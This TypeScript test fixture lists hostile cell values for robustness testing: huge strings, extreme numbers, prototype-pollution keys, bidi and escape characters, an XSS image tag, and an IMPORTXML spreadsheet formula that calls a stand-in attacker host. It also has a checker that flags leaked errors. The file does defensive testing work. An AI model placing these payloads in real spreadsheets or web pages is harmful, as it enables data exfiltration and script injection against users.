/** What nobody means well with, as cells of any product may hold it. */

const MILLION = 1_000_000;

export const HOSTILE_CELLS: readonly (readonly [string, string | number])[] = [
  ['a million letters', 'x'.repeat(MILLION)],
  ['a million blanks', ' '.repeat(MILLION)],
  ['a million digits', '9'.repeat(MILLION)],
  ['a number with a million decimals', `1.${'0'.repeat(MILLION)}1`],
  ['half a million options', 'audio,'.repeat(MILLION / 2)],
  ['half a million options of one name', 'mode=retake,'.repeat(MILLION / 12)],
  ['equals signs', '='.repeat(MILLION)],
  ['slashes and dashes', '-/'.repeat(MILLION / 2)],
  ['spaces inside', `pro${' \t'.repeat(MILLION / 2)}pro`],
  ['the largest number', Number.MAX_VALUE],
  ['the smallest number', Number.MIN_VALUE],
  ['below zero', -1],
  ['beyond every date', 1e15],
  ['an error', '#REF!'],
  ['a property of every object', '__proto__'],
  ['another one', 'constructor'],
  ['half a sign', '\ud800'],
  ['signs that turn the text around', '\u202eorp\u202c'],
  ['signs that nobody sees', 'p\u0000r\u001b[31mo\u200b'],
  ['a formula', '=IMPORTXML("https://evil.example","//a")'],
  ['markup', '<img src=x onerror=alert(1)>'],
];

export const MOST_MS = 3000;
const LONGEST = 1000;

/** What is wrong with the cells of an answer, its messages among them; or nothing. */
export function faultOf(cells: readonly (string | number)[]): string | undefined {
  const bad = cells.find((each) =>
    typeof each === 'number'
      ? !Number.isFinite(each)
      : each.length > LONGEST ||
        /\bundefined\b|\bNaN\b|\[object|(Type|Range|Syntax)Error|call stack/.test(each),
  );
  return bad === undefined ? undefined : String(bad).slice(0, 200);
}

/** An error says in words which argument is at fault. */
export const isSaid = (message: string | undefined): boolean => /^[a-z]/i.test(message ?? '');
